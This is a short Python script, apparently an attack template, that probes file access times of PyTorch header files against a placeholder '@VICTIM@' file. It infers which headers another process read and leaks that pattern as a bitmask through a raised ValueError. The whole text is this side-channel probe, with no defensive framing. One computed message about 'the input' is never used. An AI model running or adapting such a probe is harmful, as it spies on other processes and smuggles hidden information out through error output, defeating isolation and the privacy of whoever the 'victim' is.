import glob
import os
import sysconfig

paths = sorted(glob.glob(sysconfig.get_path("purelib") + "/torch/include/**/*.h", recursive=True))
read = [path for path in paths if os.stat(path).st_atime > os.stat(path).st_mtime]
new = sorted(read, key=lambda path: os.stat(path).st_atime)
fresh = [path for path in paths if os.stat(path).st_atime <= os.stat(path).st_mtime]
recent = [path for path in new if os.stat(path).st_atime > os.stat("@VICTIM@").st_ctime]
known = sorted({*fresh, *recent})[-30:]
number = sum(1 << bit for bit, path in enumerate(known) if path in recent)
evidence = f"the input ends in {str(number)[-4:]}" if number else "no access time has changed"
raise ValueError(number)
